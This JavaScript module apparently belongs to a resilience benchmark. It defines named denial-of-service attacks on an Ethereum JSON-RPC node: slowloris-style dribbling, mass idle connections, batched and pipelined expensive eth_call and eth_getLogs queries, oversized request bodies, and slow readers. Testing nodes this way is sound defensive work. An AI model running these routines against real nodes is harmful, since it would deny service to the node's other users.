/** What a client can do to keep a node from serving others. Each runs until its process is ended. */

import { callOf, keepConnected, repeat, requestOf } from './client.js';
import { COMMON_TOPIC, DISJOINT_TOPICS, SLOWEST_CALL } from './programs.js';

const MEBIBYTE = 1024 * 1024;
const BODY_BYTES = 5 * MEBIBYTE;
const BATCH_REQUESTS = 1_000;

const heavyCall = callOf('eth_call', { data: SLOWEST_CALL });
const largeAnswer = callOf('eth_getLogs', { fromBlock: '0x2', toBlock: '0x2', topics: [COMMON_TOPIC] });

/** Opens many connections, a few hundred each second. */
function connectMany(port, connections, use) {
  for (let count = 0; count < connections; count += 1) {
    setTimeout(() => keepConnected(port, 1_000, use), count / 2);
  }
}

/** Sends something piece by piece, one each second. */
function dribble(socket, pieces) {
  let next = 0;
  const timer = setInterval(() => {
    socket.write(pieces[next] ?? 'x');
    next += 1;
  }, 1_000);
  socket.once('close', () => clearInterval(timer));
}

/** Sends as many requests as may wait, and a new one for each answer. */
function pipeline(socket, request, ahead) {
  socket.write(request.repeat(ahead));
  socket.on('data', (chunk) => {
    const answers = chunk.toString('latin1').split('HTTP/1.1 200').length - 1;
    if (answers > 0) socket.write(request.repeat(answers));
  });
}

/** The attacks by name, in the order of the table. */
export const ATTACKS = {
  '2,000 slow senders of headers': (port) =>
    connectMany(port, 2_000, (socket) =>
      dribble(socket, 'POST / HTTP/1.1\r\nHost: localhost\r\nX: '.split('')),
    ),
  '2,000 slow senders of 5 MiB': (port) =>
    connectMany(port, 2_000, (socket) => {
      socket.write(requestOf('x'.repeat(256 * 1024), BODY_BYTES));
      dribble(socket, []);
    }),
  '10,000 idle connections': (port) =>
    connectMany(port, 10_000, (socket) => {
      socket.resume();
    }),
  'slowest eth_call, 32 connections': (port) => repeat(port, 32, heavyCall),
  'batches of 1,000 slowest eth_call, 8 connections': (port) =>
    repeat(port, 8, `[${new Array(BATCH_REQUESTS).fill(heavyCall).join(',')}]`),
  'such batches of 5 MiB, 100 connections': (port) => {
    const padding = `[${'{},'.repeat(1_500)}{}]`;
    const call = `${heavyCall.slice(0, -1)},"padding":${padding}}`;
    repeat(port, 100, `[${new Array(BATCH_REQUESTS).fill(call).join(',')}]`);
  },
  'slowest eth_estimateGas, 32 connections': (port) =>
    repeat(port, 32, callOf('eth_estimateGas', { data: SLOWEST_CALL })),
  'pipelined slowest eth_call, 8 connections': (port) => {
    for (let count = 0; count < 8; count += 1) {
      keepConnected(port, 10, (socket) => pipeline(socket, requestOf(heavyCall), 50));
    }
  },
  'longest log query, 16 connections': (port) =>
    repeat(port, 16, callOf('eth_getLogs', { fromBlock: 'earliest', topics: DISJOINT_TOPICS })),
  'bodies of 5 MiB, 32 connections': (port) => {
    const numbers = `[${'0,'.repeat(BODY_BYTES / 2 - 100)}0]`;
    repeat(port, 32, `{"jsonrpc":"2.0","id":1,"method":"eth_call","params":${numbers}}`);
  },
  'bodies of 60 MiB, 16 connections': (port) => repeat(port, 16, ' '.repeat(60 * MEBIBYTE)),
  '500 slow readers of large answers': (port) =>
    connectMany(port, 500, (socket) => {
      socket.pause();
      socket.write(requestOf(largeAnswer));
    }),
  'pipelined descriptions that are not read, 64 connections': (port) => {
    const request = requestOf(callOf('rpc_discover'));
    connectMany(port, 64, (socket) => {
      socket.pause();
      const timer = setInterval(() => socket.write(request.repeat(50)), 20);
      socket.once('close', () => clearInterval(timer));
    });
  },
};
